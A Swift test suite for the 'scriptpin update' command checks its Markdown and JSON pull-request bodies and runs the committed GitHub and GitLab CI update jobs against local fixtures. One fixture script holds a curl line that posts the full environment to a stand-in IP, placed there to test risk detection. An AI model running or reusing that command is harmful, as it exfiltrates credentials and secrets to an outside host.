import Foundation
import Testing
@testable import ScriptPinKit

/// Update pull requests: `update --all --yes --format markdown|json`, and
/// the shell steps of the scheduled GitHub workflow (ci/scriptpin-update.yml)
/// and of the GitLab template's `.scriptpin-update` job, run as written
/// against a real git repository, a bare remote and the loopback HTTPS
/// server standing in for GitLab's merge-request API.
@Suite("Update pull requests")
struct UpdateRequestTests {
    let server: HTTPSFixture
    let work: Workspace
    let original = "#!/bin/sh\necho one\necho two\n"
    let changed = "#!/bin/sh\necho one\ncurl -s -d \"$(env)\" https://203.0.113.7/collect\necho ```\necho two\n"

    init() throws {
        server = try HTTPSFixture()
        work = Workspace(server: server)
        server.serve("tool.sh", original)
        server.serve("steady.sh", "echo steady\n")
        #expect(git(["init", "-q", "-b", "main", "."], in: work.path).status == 0)
        #expect(work.scriptpin(["add", "tool", server.url("files/tool.sh"), "--yes"]).status == 0)
        #expect(work.scriptpin(["add", "steady", server.url("files/steady.sh"), "--yes"]).status == 0)
        #expect(git(["add", "known-hashes"], in: work.path).status == 0)
        #expect(git(["-c", "user.name=t", "-c", "user.email=t@example.com", "commit", "-q", "-m", "pins"], in: work.path).status == 0)
        server.serve("tool.sh", changed)
    }

    @Test("--format markdown: per changed pin the digests, evidence, risk lines, new hosts and the diff in a fence the body cannot close; the review goes to stderr")
    func markdown() throws {
        let result = work.scriptpin(["update", "--all", "--yes", "--format", "markdown"])
        #expect(result.status == 0, "\(result.stderr)")
        let body = result.stdout
        #expect(body.hasPrefix("## scriptpin: 1 pin updated to what upstream serves now\n"), "\(body)")
        #expect(body.contains("\n### `tool`: approved\n\n- URL: `\(server.url("files/tool.sh"))`\n- previous: `sha256:\(sha256Hex(original))`\n- new: `sha256:\(sha256Hex(changed))` (\(changed.utf8.count) bytes)\n- evidence: none"), "\(body)")
        #expect(body.contains("Risk lines in what was added (3):\n\n```text\nline 3: sends data out (curl upload): curl -s -d"), "\(body)")
        #expect(body.contains("Hosts the new body names that the approved one did not: `203.0.113.7`\n"), "\(body)")
        // The body holds a run of three backticks, so the diff's fence is four long.
        #expect(body.contains("<details><summary>Diff against the approved copy in the store</summary>\n\n````diff\n--- sha256:\(sha256Hex(original))\n+++ sha256:\(sha256Hex(changed))\n"), "\(body)")
        #expect(body.contains("+echo ```\n echo two\n````\n\n</details>\n"), "\(body)")
        #expect(body.hasSuffix("\nUnchanged: `steady`\n"), "\(body)")
        #expect(result.stderr.contains("tool: changed: "), "\(result.stderr)")
        #expect(!body.contains("tool: changed: "))
        #expect(work.directory.read("known-hashes/tool.pin")?.contains("sha256 \(sha256Hex(changed))\n") == true)
    }

    @Test("--format json: the same facts for a tool that writes the request itself")
    func json() throws {
        let result = work.scriptpin(["update", "--all", "--yes", "--format", "json"])
        #expect(result.status == 0, "\(result.stderr)")
        let object = try #require(try JSONSerialization.jsonObject(with: Data(result.stdout.utf8)) as? [String: Any])
        #expect(object["version"] as? Int == 1)
        #expect(object["unchanged"] as? [String] == ["steady"])
        let pin = try #require((object["pins"] as? [[String: Any]])?.first)
        #expect(pin["name"] as? String == "tool")
        #expect(pin["status"] as? String == "approved")
        #expect(pin["previous"] as? [String] == [sha256Hex(original)])
        #expect(pin["new"] as? String == sha256Hex(changed))
        #expect(pin["newHosts"] as? [String] == ["203.0.113.7"])
        #expect((pin["diff"] as? String)?.contains("+curl -s -d") == true)
        #expect((pin["risks"] as? [[String: Any]])?.first?["line"] as? Int == 3)
    }

    /// The workflow step's or job's shell code, from the file as committed.
    private func committedYAML(_ path: String) throws -> YAMLNode {
        let bytes = try #require(FileManager.default.contents(atPath: CommandDeclarationTests.repositoryRoot + "/" + path))
        return try YAMLReader.read(Array(bytes)).get()
    }

    /// The environment a runner gives: scriptpin on PATH, the test CA, a store of this test's own.
    private func runnerEnvironment(_ extra: [String: String]) -> [String: String] {
        var environment = work.environment(extra)
        environment["PATH"] = (ProcessRunner.scriptpinPath as NSString).deletingLastPathComponent + ":/usr/bin:/bin"
        environment["CURL_CA_BUNDLE"] = server.caFile
        return environment
    }

    @Test("The GitHub workflow's update step writes the body and says a pull request is due; with nothing changed it says none is")
    func githubWorkflowStep() throws {
        let steps = try committedYAML("ci/scriptpin-update.yml")["jobs"]?["update"]?["steps"]?.items ?? []
        let step = try #require(steps.first { $0["id"]?.scalar?.string == "update" })
        let script = try #require(step["run"]?.scalar?.string)
        #expect(steps.contains { $0["uses"]?.scalar?.string.hasPrefix("peter-evans/create-pull-request@271a8d0340265f705b14b6d32b9829c1cb33d45e") == true })
        let runnerTemp = TemporaryDirectory("scriptpin-runner-temp")
        let output = runnerTemp.url("output")
        let environment = runnerEnvironment(["RUNNER_TEMP": runnerTemp.path, "GITHUB_OUTPUT": output])
        // As GitHub runs a run: step: bash -e with pipefail.
        let ran = ProcessRunner.run("/bin/bash", ["--noprofile", "--norc", "-eo", "pipefail", "-c", script], in: work.path, environment: environment)
        #expect(ran.status == 0, "\(ran.stdout)\(ran.stderr)")
        #expect(runnerTemp.read("output") == "changed=true\nbody=\(runnerTemp.url("scriptpin-update.md"))\n")
        #expect(runnerTemp.read("scriptpin-update.md")?.contains("\n### `tool`: approved\n") == true)

        #expect(git(["-c", "user.name=t", "-c", "user.email=t@example.com", "commit", "-q", "-am", "reviewed"], in: work.path).status == 0)
        try? FileManager.default.removeItem(atPath: output)
        let again = ProcessRunner.run("/bin/bash", ["--noprofile", "--norc", "-eo", "pipefail", "-c", script], in: work.path, environment: environment)
        #expect(again.status == 0, "\(again.stderr)")
        #expect(runnerTemp.read("output")?.hasPrefix("changed=false\n") == true)
    }

    @Test("The GitLab job commits the pins on scriptpin/update, pushes the branch and opens the merge request through the API with the token in a header")
    func gitlabMergeRequest() throws {
        let job = try #require(try committedYAML("ci/scriptpin.gitlab-ci.yml")[".scriptpin-update"])
        let items = job["script"]?.items ?? []
        let lines = items.compactMap { $0.scalar?.string }
        #expect(!lines.isEmpty && lines.count == items.count, "every script item is a string, as GitLab requires")
        let remote = TemporaryDirectory("scriptpin-remote")
        #expect(git(["init", "-q", "--bare", "."], in: remote.path).status == 0)
        let environment = runnerEnvironment([
            "SCRIPTPIN_GITLAB_TOKEN": "glpat-test-token", "SCRIPTPIN_UPDATE_BRANCH": "scriptpin/update", "SCRIPTPIN_PUSH_URL": remote.path,
            "CI_SERVER_HOST": "gitlab.example", "CI_SERVER_URL": "https://gitlab.example", "CI_PROJECT_PATH": "group/project",
            "CI_PROJECT_ID": "42", "CI_DEFAULT_BRANCH": "main", "CI_API_V4_URL": server.url("gitlab/api/v4"),
        ])
        // As GitLab's shell runs a job's script: one bash, stopping at the first failing line.
        let ran = ProcessRunner.run("/bin/bash", ["--noprofile", "--norc", "-eo", "pipefail", "-c", lines.joined(separator: "\n")], in: work.path, environment: environment)
        #expect(ran.status == 0, "\(ran.stdout)\(ran.stderr)")
        #expect(ran.stdout.hasSuffix("merge request for scriptpin/update: HTTP 201\n"), "\(ran.stdout)")
        let pushed = git(["show", "scriptpin/update:known-hashes/tool.pin"], in: remote.path)
        #expect(pushed.stdout.contains("sha256 \(sha256Hex(changed))\n"), "\(pushed.stderr)")
        let request = server.collected
        #expect(request.hasPrefix("private-token=glpat-test-token\n"), "\(request)")
        #expect(request.contains("source_branch=scriptpin%2Fupdate&target_branch=main&title=scriptpin%3A+pins+updated"), "\(request)")
        #expect(request.contains("&description=%23%23+scriptpin%3A+1+pin+updated"), "\(request)")
        #expect(!server.requests.contains { $0.contains("glpat-test-token") }, "the token stays out of the request line")
    }
}
